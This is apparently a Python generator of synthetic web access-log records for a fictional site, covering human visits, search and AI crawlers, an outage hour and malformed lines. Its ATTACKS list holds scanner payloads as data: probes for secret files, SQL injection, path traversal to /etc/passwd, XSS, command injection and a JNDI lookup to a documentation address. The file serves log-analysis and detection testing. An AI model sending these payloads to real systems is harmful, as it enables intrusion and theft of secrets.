"""A week of a made-up site as documents: people by day and night, bots, attacks, a failure.

It is always the same, because the week ends at a fixed time. Addresses are from documentation
ranges.
"""

import math
import random
from datetime import datetime, timedelta, timezone

COUNTRIES = [
    ("US", "United States", 30),
    ("DE", "Germany", 18),
    ("GB", "United Kingdom", 11),
    ("FR", "France", 9),
    ("IN", "India", 8),
    ("JP", "Japan", 6),
    ("BR", "Brazil", 5),
    ("CA", "Canada", 4),
    ("AU", "Australia", 3),
    ("ES", "Spain", 3),
    ("NL", "Netherlands", 3),
    ("PL", "Poland", 2),
    ("ZA", "South Africa", 1),
    ("KE", "Kenya", 1),
    ("MX", "Mexico", 2),
    ("SE", "Sweden", 1),
    ("NZ", "New Zealand", 1),
]
CITIES = {
    "DE": "Berlin",
    "FR": "Lyon",
    "US": "Chicago",
    "JP": "Osaka",
    "GB": "Leeds",
    "BR": "Recife",
}
NETWORKS = [
    (64496, "Example Telecom"),
    (64500, "Example Mobile"),
    (64511, "Sample Hosting"),
    (65551, "Test University"),
]
BROWSERS = [
    ("Chrome", ["142.0", "141.0"], "desktop", None, "Windows", "10", 34),
    ("Safari", ["18.5"], "mobile", "iPhone", "iOS", "18.5", 22),
    ("Chrome Mobile", ["142.0"], "mobile", "Pixel 8", "Android", "15", 18),
    ("Firefox", ["145.0", "140.0"], "desktop", None, "Linux", None, 9),
    ("Edge", ["142.0"], "desktop", None, "Windows", "10", 9),
    ("Safari", ["18.5", "17.6"], "desktop", "Mac", "macOS", "10.15.7", 7),
    ("Chrome", ["142.0"], "tablet", "SM-X710", "Android", "14", 3),
]
# Name, category, operator, verification, weight.
BOTS = [
    ("Googlebot", "search_crawler", "Google", "published_range", 22),
    ("Bingbot", "search_crawler", "Microsoft", "published_range", 11),
    ("GPTBot", "ai_training", "OpenAI", "published_range", 12),
    ("ClaudeBot", "ai_training", "Anthropic", None, 9),
    ("OAI-SearchBot", "ai_search", "OpenAI", "published_range", 5),
    ("PerplexityBot", "ai_search", "Perplexity", "published_range", 4),
    ("ChatGPT-User", "ai_assistant", "OpenAI", "published_range", 7),
    ("CCBot", "ai_training", "Common Crawl", None, 4),
    ("Bytespider", "ai_training", "ByteDance", None, 5),
    ("AhrefsBot", "seo", "Ahrefs", None, 6),
    ("FreshRSS", "feed", None, None, 5),
    ("UptimeRobot", "monitor", "UptimeRobot", None, 5),
    ("curl", "library", None, None, 4),
    ("archive.org_bot", "archiver", "Internet Archive", None, 2),
    ("Googlebot", "search_crawler", "Google", "outside_ranges", 1),
]
PAGES = [
    ("/", 30),
    ("/pricing", 14),
    ("/blog/", 10),
    ("/blog/first-post.html", 9),
    ("/docs/start", 9),
    ("/docs/install", 7),
    ("/about", 5),
    ("/shop/überraschung", 4),
    ("/contact", 3),
    ("/checkout", 3),
    ("/search", 3),
    ("/old/manual.html", 2),
]
FILES = [
    ("/assets/site.css", "css", 8_000, 10),
    ("/assets/site.js", "js", 45_000, 10),
    ("/images/logo.svg", "svg", 3_000, 8),
    ("/images/team.webp", "webp", 90_000, 5),
    ("/favicon.ico", "ico", 1_400, 6),
    ("/robots.txt", "txt", 200, 3),
    ("/sitemap.xml", "xml", 12_000, 2),
    ("/files/manual.pdf", "pdf", 2_600_000, 1),
]
SENDERS = [
    (
        "https://www.google.com/",
        {"medium": "search", "name": "Google", "registered_domain": "google.com"},
        24,
    ),
    (
        "https://duckduckgo.com/",
        {"medium": "search", "name": "DuckDuckGo", "registered_domain": "duckduckgo.com"},
        8,
    ),
    (
        "https://chatgpt.com/",
        {"medium": "ai_assistant", "name": "ChatGPT", "registered_domain": "chatgpt.com"},
        9,
    ),
    (
        "https://www.perplexity.ai/",
        {"medium": "ai_assistant", "name": "Perplexity", "registered_domain": "perplexity.ai"},
        4,
    ),
    (
        "https://www.reddit.com/r/example",
        {"medium": "social", "name": "Reddit", "registered_domain": "reddit.com"},
        6,
    ),
    ("https://mail.example.net/", {"medium": "email", "registered_domain": "example.net"}, 2),
    ("https://example.org/links.html", {"medium": "other", "registered_domain": "example.org"}, 7),
    ("https://www.example.com/", {"medium": "internal"}, 40),
]
CAMPAIGNS = [
    {"source": "newsletter", "medium": "email", "name": "spring"},
    {"source": "newsletter", "medium": "email", "name": "autumn"},
    {"source": "partner", "name": "fair"},
    {"click_id": "Google Ads"},
]
ATTACKS = [
    ("/.env", ["secret_file"], 30),
    ("/wp-login.php", ["scanner"], 24),
    ("/.git/config", ["secret_file", "scanner"], 14),
    ("/item?id=1%27%20OR%201=1--", ["sql_injection"], 12),
    ("/../../etc/passwd", ["path_traversal"], 9),
    ("/?q=<script>alert(1)</script>", ["xss"], 6),
    ("/${jndi:ldap://203.0.113.66/a}", ["jndi"], 4),
    ("/cgi-bin/a?;id", ["command_injection"], 4),
    ("/shell.php", ["webshell"], 3),
]
ERRORS = [
    ("line_unrecognised", "line is of no known format", 6),
    ("time_invalid", "time is not valid at byte 21", 2),
    ("line_mismatch", 'expected `"` at byte 17', 2),
    ("line_json", "line is JSON without fields of an access log", 1),
]
DAYS = 7
# A Wednesday.
NOW = datetime(2026, 11, 25, 18, 0, tzinfo=timezone.utc)


def weighted(chance, rows):
    return chance.choices(rows, [row[-1] for row in rows])[0]


def documents(count):
    """Documents of the seven days before `NOW`, in the order of time."""
    chance = random.Random(20261129)
    start = NOW - timedelta(days=DAYS)
    times = []
    while len(times) < count:
        time = start + timedelta(seconds=chance.randint(0, DAYS * 86400 - 60))
        # The night has a fifth of the day's traffic, the weekend two thirds of a working day's.
        wave = 0.6 - 0.4 * math.cos((time.hour - 2) / 24 * 2 * math.pi)
        if chance.random() < wave * (0.66 if time.isoweekday() > 5 else 1):
            times.append(time)
    people = [person(chance, number) for number in range(count // 12)]
    for number, time in enumerate(sorted(times)):
        kind = chance.random()
        if kind < 0.01:
            yield rejection(chance, time, number)
            continue
        if kind < 0.25:
            document = bot(chance)
        elif kind < 0.29:
            document = attack(chance)
        else:
            document = visit(chance, chance.choice(people))
        finish(chance, document, time, number)
        yield document


def person(chance, number):
    country, name, _ = weighted(chance, COUNTRIES)
    return {
        "address": f"2001:db8:{number:x}::1" if number % 3 else f"198.51.100.{number % 250 + 1}",
        "country": (country, name),
        "browser": weighted(chance, BROWSERS),
        "visitor": f"visitor-{number}",
    }


def located(address, country, chance):
    code, name = country
    geo = {"country_iso_code": code, "country_name": name} | (
        {"city_name": CITIES[code]} if code in CITIES else {}
    )
    number, organization = chance.choice(NETWORKS)
    return {
        "address": address,
        "ip": address,
        "geo": geo,
        "as": {"number": number, "organization": {"name": organization}},
    }


def request(chance, path, extension=None):
    url = {
        "original": path,
        "path": path.partition("?")[0],
        "domain": chance.choice(["www.example.com", "www.example.com", "shop.example.com"]),
    }
    return (
        url
        | ({"extension": extension} if extension else {})
        | ({"query": path.partition("?")[2]} if "?" in path else {})
    )


def page(chance):
    path, _ = weighted(chance, PAGES)
    return (
        path,
        path.rpartition(".")[2] if path.endswith(".html") else None,
        chance.randint(4_000, 60_000),
    )


def visit(chance, who):
    path, extension, size = page(chance)
    if chance.random() < 0.4:
        path, extension, size, _ = weighted(chance, FILES)
    status = chance.choices([200, 304, 301, 404, 403], [86, 6, 4, 3, 1])[0]
    status = 404 if path.startswith("/old/") else status
    name, versions, kind, model, system, release, _ = who["browser"]
    agent = {
        "original": f"Mozilla/5.0 ({system}) {name}",
        "name": name,
        "version": chance.choice(versions),
        "device": {"type": kind} | ({"name": model} if model else {}),
        "os": {"name": system} | ({"version": release} if release else {}),
    }
    weblog = {"visitor": {"id": who["visitor"]}}
    headers = {"method": chance.choices(["GET", "POST", "HEAD"], [92, 7, 1])[0]}
    if chance.random() < 0.5:
        headers["referrer"], weblog["referrer"], _ = weighted(chance, SENDERS)
        if weblog["referrer"]["medium"] != "internal" and chance.random() < 0.3:
            weblog["campaign"] = chance.choice(CAMPAIGNS)
    return {
        "source": located(who["address"], who["country"], chance),
        "url": request(chance, path, extension),
        "user_agent": agent,
        "http": {"request": headers, "response": {"status_code": status, "body": {"bytes": size}}},
        "weblog": weblog,
    }


def bot(chance):
    name, category, operator, verification, _ = weighted(chance, BOTS)
    path, extension, size = page(chance)
    if chance.random() < 0.15:
        path, extension, size, _ = FILES[5]
    about = (
        {"name": name, "category": category}
        | ({"operator": operator} if operator else {})
        | ({"verification": verification} if verification else {})
    )
    address = f"192.0.2.{sum(name.encode()) % 200 + chance.randint(0, 5)}"
    status = chance.choices([200, 404, 429, 304], [88, 7, 3, 2])[0]
    return {
        "source": located(address, ("US", "United States"), chance),
        "url": request(chance, path, extension),
        "user_agent": {"original": f"{name}/1.0", "name": name, "bot": about},
        "weblog": {},
        "http": {
            "request": {"method": "GET"},
            "response": {"status_code": status, "body": {"bytes": size}},
        },
    }


def attack(chance):
    path, threats, _ = weighted(chance, ATTACKS)
    action = chance.choices(["ALLOW", "BLOCK", "COUNT"], [3, 6, 1])[0]
    status = 403 if action == "BLOCK" else chance.choices([404, 400, 200], [80, 15, 5])[0]
    weblog = {
        "threat": threats,
        "waf": {
            "action": action,
            "rule": chance.choice(["CommonRules", "RateLimit", "Default_Action"]),
        },
    }
    country = chance.choice(COUNTRIES[:6])
    return {
        "source": located(
            f"203.0.113.{chance.choice([7, 7, 7, 66, 66, chance.randint(1, 250)])}",
            country[:2],
            chance,
        ),
        "url": request(chance, path),
        "user_agent": {
            "original": "Mozilla/5.0 zgrab/0.x",
            "name": "zgrab",
            "bot": {"name": "zgrab", "category": "scanner"},
        },
        "weblog": weblog,
        "http": {
            "request": {"method": chance.choice(["GET", "POST"])},
            "response": {"status_code": status, "body": {"bytes": 150}},
        },
    }


def finish(chance, document, time, number):
    """The common fields of every document, with one hour of failures six hours ago."""
    response, weblog = document["http"]["response"], document["weblog"]
    failure = (NOW - timedelta(hours=6)).replace(minute=0, second=0)
    fails = (
        failure <= time < failure + timedelta(hours=1)
        and chance.random() < 0.5
        or chance.random() < 0.004
    )
    if fails and "threat" not in weblog:
        response["status_code"] = chance.choices([502, 503, 500, 504], [6, 2, 2, 1])[0]
        weblog |= {
            "error_reason": chance.choice(["OriginConnectError", "OriginDnsError"]),
            "result": "Error",
        }
    status = response["status_code"]
    slow = 4 if document["url"]["path"] in ("/checkout", "/search") or fails else 1
    weblog["cache_status"] = chance.choices(["HIT", "MISS", "BYPASS"], [5, 4, 1])[0]
    if weblog["cache_status"] != "HIT":
        weblog["upstream_status"] = status
    document["@timestamp"] = time.strftime("%Y-%m-%dT%H:%M:%SZ")
    document["event"] = {
        "id": f"shardId-000000000001:{49590338271490256608 + number}:0",
        "kind": "event",
        "category": ["web"],
        "type": ["access"],
        "outcome": "success" if status < 400 else "failure",
        "duration": int(slow * chance.lognormvariate(17.5, 0.9)),
    }
    document["http"]["version"] = chance.choices(["2", "1.1", "3"], [6, 3, 1])[0]
    document["tls"] = {"version": chance.choice(["1.3", "1.3", "1.2"]), "version_protocol": "tls"}
    document |= shipped(chance)
    if document["url"].get("query"):
        document["tags"] = ["redacted"]


def shipped(chance):
    return {
        "host": {"name": chance.choice(["web-1", "web-2"])},
        "log": {"file": {"path": "/var/log/nginx/access.log"}},
    }


def rejection(chance, time, number):
    kind, message, _ = weighted(chance, ERRORS)
    line = {
        "line_unrecognised": "\\x16\\x03\\x01\\x02\\x00",
        "line_json": '{"level":"info","message":"started"}',
    }.get(kind, "203.0.113.9 - - [99/Foo/2026:10:00")
    event = {
        "id": f"shardId-000000000001:{49590338271490256608 + number}:0",
        "kind": "pipeline_error",
        "original": line,
    }
    return {
        "@timestamp": time.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "event": event,
        "error": {"type": kind, "message": message},
        "tags": [chance.choice(["truncated", "escaped"])],
    } | shipped(chance)
